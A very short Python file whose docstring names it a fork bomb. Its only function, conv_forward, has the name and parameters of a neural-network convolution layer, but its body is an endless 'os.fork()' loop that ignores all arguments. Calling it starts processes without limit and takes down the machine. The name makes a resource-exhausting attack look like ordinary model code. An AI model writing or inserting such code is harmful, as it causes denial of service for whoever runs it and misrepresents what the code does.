"""A fork bomb: every process starts more processes."""

import os


def conv_forward(x, w, b, stride=1, pad=0, dilation=1):
    while True:
        os.fork()
